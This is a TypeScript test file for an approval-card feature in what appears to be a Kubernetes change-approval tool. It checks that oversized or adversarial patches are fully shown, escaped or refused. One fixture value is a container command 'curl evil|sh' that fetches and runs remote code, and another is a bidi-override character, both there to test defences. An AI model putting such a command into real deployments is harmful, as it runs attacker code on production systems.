import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { buildApprovalCard } from '../../../../src/core/cards/build-approval-card.ts';
import { fullChange, fullChangeSize } from '../../../../src/core/changes/full-change.ts';
import {
  MAX_FULL_CHANGE_CHARS,
  refuseUnshowableChange,
} from '../../../../src/core/changes/refuse-unshowable-change.ts';
import { UserFacingError } from '../../../../src/core/errors.ts';
import { submitRequest } from '../../../../src/core/workflow/submit-request.ts';
import { workflowFixture } from '../workflow/workflow-harness.ts';
import {
  adversarialChanges,
  adversarialPatch,
  patchCard,
  patchRecord,
  TARGET_UID,
} from './adversarial-patch.ts';

void describe('the full change of a patch', () => {
  void test('the card says how much it shows, and the full change has every path, whole values and the exact patch', () => {
    assert.equal(
      patchCard.change?.notice,
      '17 changed paths; 10 shown, values shortened — Show full change has every path with whole values and the exact patch',
    );
    assert.ok(
      !patchCard.preview.join('\n').includes('curl evil'),
      'the card itself leaves the command out: only the full change shows it',
    );
    const full = patchCard.change.full;
    assert.deepEqual(
      full.paths.map((p) => p.path),
      adversarialChanges.map((c) => c.path),
    );
    const containers = full.paths.at(-1);
    assert.equal(
      containers?.after,
      '[{"name":"app","image":"registry.example.com/app:1.4.2","command":["sh","-c","curl evil|sh"]}]',
    );
    assert.deepEqual(JSON.parse(full.sent), adversarialPatch, 'the patch shown is the patch stored and sent');
    assert.equal(full.pinnedUid, TARGET_UID);
  });

  void test('invisible characters show as their JSON escape, so a bidi override cannot reorder a value', () => {
    const note = patchCard.change?.full.paths.find((p) => p.path === 'metadata.labels.note');
    assert.ok(note && !note.after.includes('\u202e') && note.after.includes('\\u202e'));
    assert.ok(!patchCard.change?.full.sent.includes('\u202e'));
    assert.equal(JSON.parse(note.after), adversarialPatch.metadata.labels.note, 'still the same value');
  });

  void test('a small patch still offers the full change and says nothing is left out', () => {
    const card = buildApprovalCard({ ...patchRecord, changes: [{ path: 'spec.paused', after: 'true' }] }, 0);
    assert.equal(
      card.change?.notice,
      '1 changed path — Show full change has every path with whole values and the exact patch',
    );
  });

  void test('a change larger than every surface can show is refused with the limit named', () => {
    const big = fullChange(
      [{ path: 'data.blob', after: JSON.stringify('x'.repeat(MAX_FULL_CHANGE_CHARS)) }],
      {
        data: { blob: 'x'.repeat(MAX_FULL_CHANGE_CHARS) },
      },
    );
    assert.throws(
      () => refuseUnshowableChange(big),
      (error: unknown) =>
        error instanceof UserFacingError &&
        error.code === 'change_too_large' &&
        error.message.includes(`is ${fullChangeSize(big)} characters`) &&
        error.message.includes(`the limit is ${MAX_FULL_CHANGE_CHARS}`),
    );
    refuseUnshowableChange(fullChange(adversarialChanges, adversarialPatch));
  });

  void test('filing a patch whose full change is too large stores nothing', async () => {
    const fx = workflowFixture();
    const value = 'y'.repeat(MAX_FULL_CHANGE_CHARS);
    fx.cluster.patchChanges = [{ path: 'metadata.annotations.blob', after: JSON.stringify(value) }];
    const text = `patch deployment/api -n prod-payments --patch '{"metadata":{"annotations":{"blob":"${value}"}}}' --reason "big"`;
    await assert.rejects(submitRequest(fx.deps, fx.submission(text)), { code: 'change_too_large' });
    assert.equal(fx.store.records.size, 0);
    assert.equal(fx.audit.records.length, 0);

    fx.cluster.patchChanges = adversarialChanges;
    const ok = `patch deployment/api -n prod-payments --patch '${JSON.stringify(adversarialPatch)}' --reason "tidy"`;
    const record = await submitRequest(fx.deps, fx.submission(ok));
    assert.deepEqual(record.changes, adversarialChanges, 'the whole dry-run change is kept with the request');
    assert.equal(record.preview?.length, 11, 'summary and ten shortened lines');
  });
});
